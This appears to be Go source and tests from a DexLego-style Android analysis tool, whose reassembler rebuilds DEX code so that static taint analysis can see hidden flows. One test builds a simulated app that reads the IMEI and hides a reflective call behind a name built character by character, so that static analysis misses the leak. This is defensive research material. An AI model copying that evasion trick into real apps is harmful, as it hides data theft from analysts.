			for _, h := range tr.Handlers {
				if addr, ok := resolveHandler(h.HandlerPC); ok {
					t.Handlers = append(t.Handlers, dex.TypeAddr{
						Type: fl.ra.p.Builder().Type(h.Type),
						Addr: addr,
					})
				}
			}
			if tr.CatchAllPC >= 0 {
				if addr, ok := resolveHandler(tr.CatchAllPC); ok {
					t.CatchAll = int32(addr)
				}
			}
			if len(t.Handlers) > 0 || t.CatchAll >= 0 {
				out = append(out, t)
			}
			runStart = i
		}
	}
	return out, nil
}

func isMethodInvoke(e collector.Entry) bool {
	return e.Inst.Op == bytecode.OpInvokeVirtual && e.Sym != nil &&
		e.Sym.Kind == bytecode.IndexMethod &&
		e.Sym.Method.Class == "Ljava/lang/reflect/Method;" &&
		e.Sym.Method.Name == "invoke"
}

// bridgeFor returns (creating if needed) the bridge method that performs the
// observed reflective targets as direct calls.
func (ra *reassembler) bridgeFor(targets []collector.ReflTarget) string {
	if ra.bridgeCls == nil {
		ra.bridgeCls = ra.p.Class(BridgeClass, "")
	}
	name := "call_" + strconv.Itoa(ra.bridgeCounter)
	ra.bridgeCounter++
	ts := append([]collector.ReflTarget(nil), targets...)
	ra.bridgeCls.Method(dexgen.MethodSpec{
		Name:   name,
		Ret:    "Ljava/lang/Object;",
		Params: []string{"Ljava/lang/Object;", "[Ljava/lang/Object;"},
		Static: true,
		Locals: 10,
	}, func(a *dexgen.Asm) {
		a.Const(0, 0) // result
		for _, t := range ts {
			emitBridgeCall(a, t)
		}
		a.ReturnObj(0)
	})
	return name
}

func emitBridgeCall(a *dexgen.Asm, t collector.ReflTarget) {
	params, ret, err := dex.ParseSignature(t.Signature)
	if err != nil {
		return
	}
	var regs []int32
	if !t.Static {
		a.MoveObject(1, a.P(0))
		a.CheckCast(1, t.Class)
		regs = append(regs, 1)
	}
	for i, pt := range params {
		r := int32(3 + i)
		a.Const(2, int64(i))
		a.AGet(bytecode.OpAGetObject, r, a.P(1), 2)
		switch pt[0] {
		case 'L':
			if pt != "Ljava/lang/Object;" {
				a.CheckCast(r, pt)
			}
		case '[':
			a.CheckCast(r, pt)
		default: // primitive: unbox through Integer
			a.CheckCast(r, "Ljava/lang/Integer;")
			a.InvokeVirtual("Ljava/lang/Integer;", "intValue", "()I", r)
			a.MoveResult(r)
		}
		regs = append(regs, r)
	}
	if t.Static {
		a.InvokeStatic(t.Class, t.Name, t.Signature, regs...)
	} else {
		a.InvokeVirtual(t.Class, t.Name, t.Signature, regs...)
	}
	switch {
	case ret == "V":
	case ret[0] == 'L' || ret[0] == '[':
		a.MoveResultObject(0)
	default:
		a.MoveResult(9)
		a.InvokeStatic("Ljava/lang/Integer;", "valueOf", "(I)Ljava/lang/Integer;", 9)
		a.MoveResultObject(0)
	}
}
