// Package reassembler implements DexLego's offline reassembling phase: it
// turns a collection result (trees of executed instructions plus DEX
// metadata) back into a valid DEX file.
//
// Each collection tree is flattened into one instruction array. A leaf is
// merged into its parent by inserting a synthetic conditional branch at the
// divergence point — `sget-boolean` on a fresh static field of the
// LModification; instrument class followed by `if-nez` into the leaf's code —
// so static analysis treats both the original and the self-modified code as
// reachable (Section IV-B of the paper). Distinct instruction arrays of one
// method become method variants behind the same synthetic-branch dispatch.
// Reflective Method.invoke call sites are rewritten into direct calls
// through generated bridge methods, and never-executed branch targets are
// routed to a shared default-return trailer, which is what removes
// dead-code false positives downstream.
package reassembler

import (
	"fmt"
	"sort"
	"strconv"
	"strings"

	"dexlego/internal/apk"
	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/obs"
)

// Instrumentation class and bridge class descriptors.
const (
	InstrumentClass = "LModification;"
	BridgeClass     = "LReflBridge;"
)

// Stats summarizes a reassembly.
type Stats struct {
	Classes            int
	Methods            int
	ExecutedMethods    int
	Stubs              int
	Variants           int // extra bodies emitted for multi-tree methods
	Divergences        int // self-modification layers merged
	ReflectionRewrites int
	InstrumentFields   int
}

// Reassemble builds a DEX file from a collection result.
func Reassemble(res *collector.Result) (*dex.File, *Stats, error) {
	return ReassembleWith(res, nil)
}

// ReassembleWith is Reassemble with trace events (stub emissions, variant
// merges, reflection rewrites) attributed to span; nil disables them.
func ReassembleWith(res *collector.Result, span *obs.Span) (*dex.File, *Stats, error) {
	return ReassembleCfg(res, span, Config{})
}

// Config parameterizes a reassembly run.
type Config struct {
	// Workers bounds the parallel method-assembly and index-remap fan-out
	// of the generated program: 0 selects GOMAXPROCS, 1 forces the serial
	// path. Serial and parallel reassembly produce byte-identical DEX
	// output (pinned by TestSerialParallelByteIdentical).
	Workers int
}

// ReassembleCfg is ReassembleWith with explicit parallelism configuration.
func ReassembleCfg(res *collector.Result, span *obs.Span, cfg Config) (*dex.File, *Stats, error) {
	p := dexgen.New()
	p.SetWorkers(cfg.Workers)
	ra := &reassembler{
		p:     p,
		res:   res,
		stats: &Stats{},
		span:  span,
	}
	if err := ra.run(); err != nil {
		return nil, nil, err
	}
	f, err := ra.p.Finish()
	if err != nil {
		return nil, nil, err
	}
	return f, ra.stats, nil
}

// ReassembleAPK rebuilds the APK with the revealed classes.dex, mirroring
// the paper's use of AAPT to swap the DEX inside the original package.
func ReassembleAPK(orig *apk.APK, res *collector.Result) (*apk.APK, *Stats, error) {
	return ReassembleAPKWith(orig, res, nil)
}

// ReassembleAPKWith is ReassembleAPK with trace events attributed to span.
func ReassembleAPKWith(orig *apk.APK, res *collector.Result, span *obs.Span) (*apk.APK, *Stats, error) {
	return ReassembleAPKCfg(orig, res, span, Config{})
}

// ReassembleAPKCfg is ReassembleAPKWith with explicit parallelism
// configuration.
func ReassembleAPKCfg(orig *apk.APK, res *collector.Result, span *obs.Span, cfg Config) (*apk.APK, *Stats, error) {
	f, stats, err := ReassembleCfg(res, span, cfg)
	if err != nil {
		return nil, nil, err
	}
	data, err := f.Write()
	if err != nil {
		return nil, nil, err
	}
	out := orig.Clone()
	out.SetDex(data)
	return out, stats, nil
}

type reassembler struct {
	p     *dexgen.Program
	res   *collector.Result
	stats *Stats
	span  *obs.Span

	instrCls      *dexgen.Class
	bridgeCls     *dexgen.Class
	bridgeCounter int
	fieldCounter  map[string]int
}

func (ra *reassembler) run() error {
	ra.fieldCounter = make(map[string]int)
	for ci := range ra.res.Classes {
		if err := ra.emitClass(&ra.res.Classes[ci]); err != nil {
			return err
		}
	}
	return nil
}

func (ra *reassembler) instrumentField(rec *collector.MethodRecord) string {
	if ra.instrCls == nil {
		ra.instrCls = ra.p.Class(InstrumentClass, "")
	}
	base := sanitize(rec.Class + "_" + rec.Name)
	n := ra.fieldCounter[base]
	ra.fieldCounter[base] = n + 1
	name := base + "_" + strconv.Itoa(n)
	// Deliberately non-final and defaulted: the value is runtime-dependent
	// (the paper uses random values), so value-sensitive analyses must treat
	// both branches as reachable.
	ra.instrCls.StaticBool(name, false)
	ra.stats.InstrumentFields++
	return name
}

func sanitize(s string) string {
	var sb strings.Builder
	for _, r := range s {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9':
			sb.WriteRune(r)
		default:
			sb.WriteByte('_')
		}
	}
	return strings.Trim(sb.String(), "_")
}

func (ra *reassembler) emitClass(cr *collector.ClassRecord) error {
	super := cr.Superclass
	cls := ra.p.ClassWithFlags(cr.Descriptor, cr.AccessFlags, super, cr.Interfaces...)
	ra.stats.Classes++
	if cr.SourceFile != "" {
		cls.Source(cr.SourceFile)
	}
	for _, f := range cr.StaticFields {
		cls.StaticInit(f.Name, f.Type, f.AccessFlags, ra.dexValue(f))
	}
	for _, f := range cr.InstanceFields {
		cls.FieldWithFlags(f.Name, f.Type, f.AccessFlags)
	}
	for _, sh := range cr.Methods {
		key := cr.Descriptor + "->" + sh.Name + sh.Signature
		rec := ra.res.Methods[key]
		params, ret, err := dex.ParseSignature(sh.Signature)
		if err != nil {
			return fmt.Errorf("reassembler: %s: %w", key, err)
		}
		ra.stats.Methods++
		switch {
		case sh.Native:
			cls.NativeM(sh.Name, ret, params, sh.Virtual)
		case sh.AccessFlags&dex.AccAbstract != 0:
			cls.AbstractM(sh.Name, ret, params)
		case rec != nil && rec.Executed():
			ra.stats.ExecutedMethods++
			if err := ra.emitExecuted(cls, rec, sh, ret, params); err != nil {
				return err
			}
		default:
			ra.stats.Stubs++
			if ra.span.Enabled() {
				ra.span.StubEmitted(key)
			}
			ra.emitStub(cls, sh.Name, ret, params, sh.AccessFlags)
		}
	}
	return nil
}

func (ra *reassembler) dexValue(f collector.FieldRecord) *dex.Value {
	if f.Value == nil {
		return nil
	}
	switch f.Value.Kind {
	case "string":
		v := dex.StringValue(ra.p.Builder().String(f.Value.Str))
		return &v
	case "null":
		v := dex.NullValue()
		return &v
	default:
		var v dex.Value
		switch f.Type {
		case "Z":
			v = dex.BoolValue(f.Value.Int != 0)
		case "J":
			v = dex.Value{Kind: dex.ValueLong, Int: f.Value.Int}
		default:
			v = dex.IntValue(f.Value.Int)
		}
		return &v
	}
}

func (ra *reassembler) emitStub(cls *dexgen.Class, name, ret string, params []string, flags uint32) {
	ins := len(params)
	if flags&dex.AccStatic == 0 {
		ins++
	}
	cls.RawMethod(name, ret, params, flags, dexgen.RawCode{
		Registers: ins + 1,
		Ins:       ins,
		Build: func(a *dexgen.Asm) {
			emitDefaultReturn(a, ret)
		},
	})
}

func emitDefaultReturn(a *dexgen.Asm, ret string) {
	switch {
	case ret == "V":
		a.ReturnVoid()
	case ret[0] == 'L' || ret[0] == '[':
		a.Const(0, 0)
		a.ReturnObj(0)
	default:
		a.Const(0, 0)
		a.Return(0)
	}
}

func (ra *reassembler) emitExecuted(cls *dexgen.Class, rec *collector.MethodRecord, sh collector.MethodShell, ret string, params []string) error {
	trees := mergeCompatibleTrees(rec.Trees)
	if len(rec.Trees) > 1 && ra.span.Enabled() {
		ra.span.MergeVariant(rec.Key(), len(rec.Trees), len(trees))
	}
	if len(trees) == 1 {
		return ra.emitTreeMethod(cls, rec, sh.Name, sh.AccessFlags, ret, params, trees[0], true)
	}
	// Multiple irreconcilable instruction arrays: emit variants plus a
	// dispatcher.
	rec = recWithTrees(rec, trees)
	for k, tree := range rec.Trees {
		vname := fmt.Sprintf("%s$v%d", sh.Name, k)
		vflags := sh.AccessFlags
		if vflags&dex.AccStatic == 0 && !rec.Virtual {
			vflags |= dex.AccPrivate // direct-dispatch variant for constructors
		}
		vflags &^= dex.AccConstructor
		if err := ra.emitTreeMethod(cls, rec, vname, vflags, ret, params, tree, false); err != nil {
			return err
		}
		ra.stats.Variants++
	}
	ra.emitDispatcher(cls, rec, sh, ret, params)
	return nil
}

// emitDispatcher generates the original-name method that selects among the
// variant bodies through instrument-class fields.
func (ra *reassembler) emitDispatcher(cls *dexgen.Class, rec *collector.MethodRecord, sh collector.MethodShell, ret string, params []string) {
	k := len(rec.Trees)
	fields := make([]string, 0, k-1)
	for i := 1; i < k; i++ {
		fields = append(fields, ra.instrumentField(rec))
	}
	var op bytecode.Opcode
	switch {
	case sh.AccessFlags&dex.AccStatic != 0:
		op = bytecode.OpInvokeStaticR
	case rec.Virtual:
		op = bytecode.OpInvokeVirtualR
	default:
		op = bytecode.OpInvokeDirectR
	}
	cls.RawMethod(sh.Name, ret, params, sh.AccessFlags, dexgen.RawCode{
		Registers: 2 + rec.InsSize,
		Ins:       rec.InsSize,
		Build: func(a *dexgen.Asm) {
			for i := 1; i < k; i++ {
				a.SGetBool(0, InstrumentClass, fields[i-1])
				a.Raw().RawBranch(bytecode.Inst{Op: bytecode.OpIfNez, A: 0},
					fmt.Sprintf("variant%d", i))
			}
			ra.emitVariantCall(a, rec, sh, op, ret, 0)
			for i := 1; i < k; i++ {
				a.Label(fmt.Sprintf("variant%d", i))
				ra.emitVariantCall(a, rec, sh, op, ret, i)
			}
		},
	})
}

func (ra *reassembler) emitVariantCall(a *dexgen.Asm, rec *collector.MethodRecord, sh collector.MethodShell, op bytecode.Opcode, ret string, k int) {
	idx, err := ra.p.Builder().MethodSig(rec.Class, fmt.Sprintf("%s$v%d", sh.Name, k), rec.Signature)
	if err != nil {
		// Signature was validated by the caller; surface through dexgen.
		a.Raw().Nop()
		return
	}
	a.Raw().InvokeRange(op, idx, 2, rec.InsSize)
	a.NoteOuts(rec.InsSize)
	switch {
	case ret == "V":
		a.ReturnVoid()
	case ret[0] == 'L' || ret[0] == '[':
		a.MoveResultObject(1)
		a.ReturnObj(1)
	default:
		a.MoveResult(1)
		a.Return(1)
	}
}

// emitTreeMethod flattens one collection tree into one method body.
// withTries controls whether the original try/catch table is re-anchored
// (only for the primary, single-tree case; variants drop handlers that no
// longer apply).
func (ra *reassembler) emitTreeMethod(cls *dexgen.Class, rec *collector.MethodRecord, name string, flags uint32, ret string, params []string, tree *collector.TreeNode, withTries bool) error {
	fl := &flattener{
		ra:        ra,
		rec:       rec,
		tree:      tree,
		retType:   ret,
		grow:      len(tree.Children) > 0,
		oldLocals: int32(rec.RegistersSize - rec.InsSize),
		nodeID:    make(map[*collector.TreeNode]int),
	}
	if fl.oldLocals < 0 {
		return fmt.Errorf("reassembler: %s: ins %d exceed registers %d",
			rec.Key(), rec.InsSize, rec.RegistersSize)
	}
	fl.scratch = fl.oldLocals
	fl.assignIDs(tree)
	regs := rec.RegistersSize
	if fl.grow {
		regs++
	}
	rc := dexgen.RawCode{
		Registers: regs,
		Ins:       rec.InsSize,
		Build:     func(a *dexgen.Asm) { fl.emit(a) },
	}
	if withTries && len(rec.Tries) > 0 {
		rc.TriesFn = fl.mapTries
	}
	cls.RawMethod(name, ret, params, flags, rc)
	ra.stats.Divergences += countNodes(tree) - 1
	return fl.err
}

// recWithTrees returns a shallow copy of rec carrying the merged tree set.
func recWithTrees(rec *collector.MethodRecord, trees []*collector.TreeNode) *collector.MethodRecord {
	out := *rec
	out.Trees = trees
	return &out
}

func countNodes(n *collector.TreeNode) int {
	total := 1
	for _, c := range n.Children {
		total += countNodes(c)
	}
	return total
}

// flattener converts one collection tree into assembler items.
type flattener struct {
	ra      *reassembler
	rec     *collector.MethodRecord
	tree    *collector.TreeNode
	a       *dexgen.Asm
	retType string

	grow      bool
	oldLocals int32
	scratch   int32
	nodeID    map[*collector.TreeNode]int
	nextID    int
	unexec    bool
	err       error

	rootSpans []rootSpan // for try-table re-anchoring
}

type rootSpan struct {
	origPC int
	label  string
	width  int
}

func (fl *flattener) assignIDs(n *collector.TreeNode) {
	fl.nodeID[n] = fl.nextID
	fl.nextID++
	for _, c := range n.Children {
		fl.assignIDs(c)
	}
}

func (fl *flattener) label(n *collector.TreeNode, pc int) string {
	// Built ~3x per instruction; strconv-append keeps it to one allocation.
	buf := make([]byte, 0, 16)
	buf = append(buf, 'n')
	buf = strconv.AppendInt(buf, int64(fl.nodeID[n]), 10)
	buf = append(buf, "_pc"...)
	buf = strconv.AppendInt(buf, int64(pc), 10)
	return string(buf)
}

// resolve maps an original dex_pc reference from node n to a layout label,
// walking ancestors; unexecuted targets go to the shared trailer.
func (fl *flattener) resolve(n *collector.TreeNode, pc int) string {
	for k := n; k != nil; k = k.Parent {
		if _, ok := k.IIM[pc]; ok {
			return fl.label(k, pc)
		}
	}
	fl.unexec = true
	return "unexec"
}

func (fl *flattener) emit(a *dexgen.Asm) {
	fl.a = a
	fl.emitNode(fl.tree)
	if fl.unexec {
		a.Label("unexec")
		emitDefaultReturn(a, fl.retType)
	}
}

func (fl *flattener) emitNode(n *collector.TreeNode) {
	entries := append([]collector.Entry(nil), n.IL...)
	sort.Slice(entries, func(i, j int) bool { return entries[i].DexPC < entries[j].DexPC })
	children := append([]*collector.TreeNode(nil), n.Children...)
	sort.Slice(children, func(i, j int) bool { return children[i].SmStart < children[j].SmStart })

	for i, e := range entries {
		fl.a.Label(fl.label(n, e.DexPC))
		if n == fl.tree {
			fl.rootSpans = append(fl.rootSpans, rootSpan{
				origPC: e.DexPC,
				label:  fl.label(n, e.DexPC),
				width:  e.Inst.Width(),
			})
		}
		// Divergence detours: one synthetic conditional per child forking
		// at this dex_pc.
		for _, c := range children {
			if c.SmStart != e.DexPC {
				continue
			}
			field := fl.ra.instrumentField(fl.rec)
			fl.a.SGetBool(fl.scratch, InstrumentClass, field)
			fl.a.Raw().RawBranch(bytecode.Inst{Op: bytecode.OpIfNez, A: fl.scratch},
				fl.label(c, c.SmStart))
		}
		fl.emitEntry(n, e)
		// Fall-through repair: collected code lays out sparsely, so an
		// implicit fall-through to a non-adjacent (or divergent) successor
		// becomes an explicit goto.
		if !e.Inst.Op.IsTerminator() {
			nextPC := e.DexPC + e.Inst.Width()
			natural := i+1 < len(entries) && entries[i+1].DexPC == nextPC
			if !natural {
				fl.a.Goto(fl.resolve(n, nextPC))
			}
		}
	}
	for _, c := range children {
		fl.emitNode(c)
	}
}

func (fl *flattener) emitEntry(n *collector.TreeNode, e collector.Entry) {
	in := e.Inst.Clone()
	sym := e.Sym

	// Reflection-to-direct-call rewriting.
	if targets, ok := fl.rec.ReflTargets[e.DexPC]; ok && isMethodInvoke(e) && len(in.Args) == 3 {
		bridge := fl.ra.bridgeFor(targets)
		in = bytecode.Inst{
			Op:    bytecode.OpInvokeStatic,
			Args:  []int{in.Args[1], in.Args[2]}, // drop the Method receiver
			A:     2,
			Index: 0,
		}
		sym = &collector.Symbol{
			Kind: bytecode.IndexMethod,
			Method: dex.MethodRef{
				Class:     BridgeClass,
				Name:      bridge,
				Signature: "(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;",
			},
		}
		fl.ra.stats.ReflectionRewrites++
		if fl.ra.span.Enabled() {
			fl.ra.span.ReflectionRewrite(fl.rec.Key(), e.DexPC, BridgeClass+"->"+bridge)
		}
	}

	if fl.grow {
		in = bytecode.MapRegisters(in, func(r int32) int32 {
			if r >= fl.oldLocals {
				return r + 1
			}
			return r
		})
	}
	if err := fl.setIndex(&in, sym); err != nil {
		fl.fail(err)
		return
	}
	if in.Op.IsInvoke() {
		fl.a.NoteOuts(len(in.Args))
	}

	switch {
	case in.Op.IsBranch() || in.Op.IsGoto():
		target := e.DexPC + int(e.Inst.Off)
		in.Off = 0
		if in.Op == bytecode.OpGoto {
			in.Op = bytecode.OpGoto16 // uniform reach after relayout
		}
		fl.a.Raw().RawBranch(in, fl.resolve(n, target))
	case in.Op.IsSwitch():
		labels := make([]string, len(e.Inst.Targets))
		for i, t := range e.Inst.Targets {
			labels[i] = fl.resolve(n, e.DexPC+int(t))
		}
		in.Targets = nil
		in.Off = 0
		fl.a.Raw().RawSwitch(in, labels)
	default:
		fl.a.Raw().Raw(in)
	}
}

func (fl *flattener) fail(err error) {
	if fl.err == nil {
		fl.err = err
	}
}

func (fl *flattener) setIndex(in *bytecode.Inst, sym *collector.Symbol) error {
	if in.Op.Index() == bytecode.IndexNone {
		return nil
	}
	if sym == nil {
		return fmt.Errorf("reassembler: %s: missing symbol for %s", fl.rec.Key(), in.Op)
	}
	b := fl.ra.p.Builder()
	switch sym.Kind {
	case bytecode.IndexString:
		in.Index = b.String(sym.Str)
	case bytecode.IndexType:
		in.Index = b.Type(sym.Type)
	case bytecode.IndexField:
		in.Index = b.Field(sym.Field.Class, sym.Field.Name, sym.Field.Type)
	case bytecode.IndexMethod:
		idx, err := b.MethodSig(sym.Method.Class, sym.Method.Name, sym.Method.Signature)
		if err != nil {
			return fmt.Errorf("reassembler: %s: %w", fl.rec.Key(), err)
		}
		in.Index = idx
	}
	return nil
}

// mapTries re-anchors the original try table onto the flattened root-node
// layout: each original range becomes one try per contiguous run of emitted
// root instructions inside it.
func (fl *flattener) mapTries(labels map[string]int) ([]dex.Try, error) {
	spans := append([]rootSpan(nil), fl.rootSpans...)
	sort.Slice(spans, func(i, j int) bool { return spans[i].origPC < spans[j].origPC })
	var out []dex.Try
	for _, tr := range fl.rec.Tries {
		inRange := make([]rootSpan, 0, len(spans))
		for _, sp := range spans {
			if sp.origPC >= tr.StartPC && sp.origPC < tr.StartPC+tr.Count {
				inRange = append(inRange, sp)
			}
		}
		if len(inRange) == 0 {
			continue
		}
		resolveHandler := func(pc int) (uint32, bool) {
			lbl := fl.resolve(fl.tree, pc)
			newPC, ok := labels[lbl]
			return uint32(newPC), ok
		}
		// Split into runs contiguous in the NEW layout.
		runStart := 0
		for i := 1; i <= len(inRange); i++ {
			contiguous := i < len(inRange) &&
				labels[inRange[i].label] == labels[inRange[i-1].label]+inRange[i-1].width
			if contiguous {
				continue
			}
			first, last := inRange[runStart], inRange[i-1]
			start := labels[first.label]
			end := labels[last.label] + last.width
			t := dex.Try{Start: uint32(start), Count: uint32(end - start), CatchAll: -1}
			for _, h := range tr.Handlers {
				if addr, ok := resolveHandler(h.HandlerPC); ok {
					t.Handlers = append(t.Handlers, dex.TypeAddr{
						Type: fl.ra.p.Builder().Type(h.Type),
						Addr: addr,
					})
				}
			}
			if tr.CatchAllPC >= 0 {
				if addr, ok := resolveHandler(tr.CatchAllPC); ok {
					t.CatchAll = int32(addr)
				}
			}
			if len(t.Handlers) > 0 || t.CatchAll >= 0 {
				out = append(out, t)
			}
			runStart = i
		}
	}
	return out, nil
}

func isMethodInvoke(e collector.Entry) bool {
	return e.Inst.Op == bytecode.OpInvokeVirtual && e.Sym != nil &&
		e.Sym.Kind == bytecode.IndexMethod &&
		e.Sym.Method.Class == "Ljava/lang/reflect/Method;" &&
		e.Sym.Method.Name == "invoke"
}

// bridgeFor returns (creating if needed) the bridge method that performs the
// observed reflective targets as direct calls.
func (ra *reassembler) bridgeFor(targets []collector.ReflTarget) string {
	if ra.bridgeCls == nil {
		ra.bridgeCls = ra.p.Class(BridgeClass, "")
	}
	name := "call_" + strconv.Itoa(ra.bridgeCounter)
	ra.bridgeCounter++
	ts := append([]collector.ReflTarget(nil), targets...)
	ra.bridgeCls.Method(dexgen.MethodSpec{
		Name:   name,
		Ret:    "Ljava/lang/Object;",
		Params: []string{"Ljava/lang/Object;", "[Ljava/lang/Object;"},
		Static: true,
		Locals: 10,
	}, func(a *dexgen.Asm) {
		a.Const(0, 0) // result
		for _, t := range ts {
			emitBridgeCall(a, t)
		}
		a.ReturnObj(0)
	})
	return name
}

func emitBridgeCall(a *dexgen.Asm, t collector.ReflTarget) {
	params, ret, err := dex.ParseSignature(t.Signature)
	if err != nil {
		return
	}
	var regs []int32
	if !t.Static {
		a.MoveObject(1, a.P(0))
		a.CheckCast(1, t.Class)
		regs = append(regs, 1)
	}
	for i, pt := range params {
		r := int32(3 + i)
		a.Const(2, int64(i))
		a.AGet(bytecode.OpAGetObject, r, a.P(1), 2)
		switch pt[0] {
		case 'L':
			if pt != "Ljava/lang/Object;" {
				a.CheckCast(r, pt)
			}
		case '[':
			a.CheckCast(r, pt)
		default: // primitive: unbox through Integer
			a.CheckCast(r, "Ljava/lang/Integer;")
			a.InvokeVirtual("Ljava/lang/Integer;", "intValue", "()I", r)
			a.MoveResult(r)
		}
		regs = append(regs, r)
	}
	if t.Static {
		a.InvokeStatic(t.Class, t.Name, t.Signature, regs...)
	} else {
		a.InvokeVirtual(t.Class, t.Name, t.Signature, regs...)
	}
	switch {
	case ret == "V":
	case ret[0] == 'L' || ret[0] == '[':
		a.MoveResultObject(0)
	default:
		a.MoveResult(9)
		a.InvokeStatic("Ljava/lang/Integer;", "valueOf", "(I)Ljava/lang/Integer;", 9)
		a.MoveResultObject(0)
	}
}
