package reassembler_test

import (
	"testing"

	"dexlego/internal/apimodel"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/taint"

	root "dexlego"
)

// TestReflectiveCallWithArguments exercises the bridge generator's argument
// path: the reflective target takes a String and an int, so the bridge must
// unpack the Object[] (aget-object + checked casts) and unbox the Integer.
func TestReflectiveCallWithArguments(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Largs/Main;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	// The target sinks its string argument `count` times.
	cls.Virtual("exfil", "I", []string{"Ljava/lang/String;", "I"}, func(a *dexgen.Asm) {
		a.LogLeak("args", a.P(0), 0)
		a.Return(a.P(1))
	})
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		// args = new Object[]{imei, Integer.valueOf(7)}
		a.Const(1, 2)
		a.NewArray(2, 1, "[Ljava/lang/Object;")
		a.Const(3, 0)
		a.APut(bytecode.OpAPutObject, 0, 2, 3)
		a.Const(4, 7)
		a.InvokeStatic("Ljava/lang/Integer;", "valueOf", "(I)Ljava/lang/Integer;", 4)
		a.MoveResultObject(5)
		a.Const(3, 1)
		a.APut(bytecode.OpAPutObject, 5, 2, 3)
		// Class.forName via computed string: statically unresolvable.
		emitChars(a, "args.Main", 6)
		a.InvokeStatic("Ljava/lang/Class;", "forName",
			"(Ljava/lang/String;)Ljava/lang/Class;", 6)
		a.MoveResultObject(6)
		emitChars(a, "exfil", 7)
		a.InvokeVirtual("Ljava/lang/Class;", "getMethod",
			"(Ljava/lang/String;)Ljava/lang/reflect/Method;", 6, 7)
		a.MoveResultObject(7)
		a.InvokeVirtual("Ljava/lang/reflect/Method;", "invoke",
			"(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", 7, a.This(), 2)
		a.MoveResultObject(1)
		// The boxed return flows onward: unbox and log it (untainted).
		a.CheckCast(1, "Ljava/lang/Integer;")
		a.InvokeVirtual("Ljava/lang/Integer;", "intValue", "()I", 1)
		a.MoveResult(1)
		a.InvokeStatic("Ljava/lang/String;", "valueOf", "(I)Ljava/lang/String;", 1)
		a.MoveResultObject(1)
		a.LogLeak("ret", 1, 3)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("args", "1.0", "Largs/Main;")
	if err != nil {
		t.Fatal(err)
	}

	// Statically unresolvable before revealing.
	orig, err := pkg.Dex()
	if err != nil {
		t.Fatal(err)
	}
	origDex, err := dex.Read(orig)
	if err != nil {
		t.Fatal(err)
	}
	r0, err := taint.Analyze([]*dex.File{origDex}, taint.HornDroid())
	if err != nil {
		t.Fatal(err)
	}
	if r0.Leaky() {
		t.Fatal("computed-name reflection should defeat static analysis on the original")
	}

	res, err := root.Reveal(pkg, root.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Stats.ReflectionRewrites != 1 {
		t.Errorf("reflection rewrites = %d, want 1", res.Stats.ReflectionRewrites)
	}
	// The revealed DEX exposes the flow through the bridge.
	r1, err := taint.Analyze([]*dex.File{res.RevealedDex}, taint.HornDroid())
	if err != nil {
		t.Fatal(err)
	}
	if !r1.Leaky() {
		t.Error("bridge did not expose the argument-carried flow to static analysis")
	}
	// The revealed app still runs, with the same two sink events (tainted
	// exfil + untainted return log) and the correct return value 7.
	rt := art.NewRuntime(art.DefaultPhone())
	if err := rt.LoadAPK(res.Revealed); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.LaunchActivity(); err != nil {
		t.Fatal(err)
	}
	sinks := rt.Sinks()
	if len(sinks) != 2 {
		t.Fatalf("revealed run sinks = %+v", sinks)
	}
	if !sinks[0].Taint.Has(apimodel.TaintIMEI) {
		t.Error("exfil sink lost its taint through the bridge")
	}
	if sinks[1].Leaky() || sinks[1].Args[1] != "7" {
		t.Errorf("return-value log = %+v, want untainted \"7\"", sinks[1])
	}
}

// emitChars builds the string s in reg via StringBuilder.append(C), making
// it invisible to constant-string tracking.
func emitChars(a *dexgen.Asm, s string, reg int32) {
	a.NewInstance(reg, "Ljava/lang/StringBuilder;")
	a.InvokeDirect("Ljava/lang/StringBuilder;", "<init>", "()V", reg)
	for _, r := range s {
		a.Const(4, int64(r)) // v4 is dead at both call sites
		a.InvokeVirtual("Ljava/lang/StringBuilder;", "append",
			"(C)Ljava/lang/StringBuilder;", reg, 4)
	}
	a.InvokeVirtual("Ljava/lang/StringBuilder;", "toString", "()Ljava/lang/String;", reg)
	a.MoveResultObject(reg)
}
