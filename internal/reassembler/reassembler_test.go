package reassembler_test

import (
	"strings"
	"testing"

	"dexlego/internal/apimodel"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/reassembler"
)

// collectApp loads the APK under collection, runs drive, and returns the
// collection result.
func collectApp(t *testing.T, pkg *apk.APK, natives map[string]art.NativeFunc, drive func(rt *art.Runtime)) *collector.Result {
	t.Helper()
	rt := art.NewRuntime(art.DefaultPhone())
	for key, fn := range natives {
		rt.RegisterNative(key, fn)
	}
	col := collector.New()
	rt.AddHooks(col.Hooks())
	if err := rt.LoadAPK(pkg); err != nil {
		t.Fatal(err)
	}
	drive(rt)
	return col.Result()
}

// revealAndReload reassembles and loads the revealed APK in a fresh runtime.
func revealAndReload(t *testing.T, pkg *apk.APK, res *collector.Result, natives map[string]art.NativeFunc) (*art.Runtime, *apk.APK, *dex.File) {
	t.Helper()
	revealed, _, err := reassembler.ReassembleAPK(pkg, res)
	if err != nil {
		t.Fatal(err)
	}
	data, err := revealed.Dex()
	if err != nil {
		t.Fatal(err)
	}
	f, err := dex.Read(data)
	if err != nil {
		t.Fatalf("revealed dex does not parse: %v", err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	for key, fn := range natives {
		rt.RegisterNative(key, fn)
	}
	if err := rt.LoadAPK(revealed); err != nil {
		t.Fatalf("revealed dex does not reload: %v", err)
	}
	return rt, revealed, f
}

func launch(t *testing.T, rt *art.Runtime) {
	t.Helper()
	if _, err := rt.LaunchActivity(); err != nil {
		t.Fatal(err)
	}
}

func buildSimpleLeakAPK(t *testing.T) *apk.APK {
	t.Helper()
	p := dexgen.New()
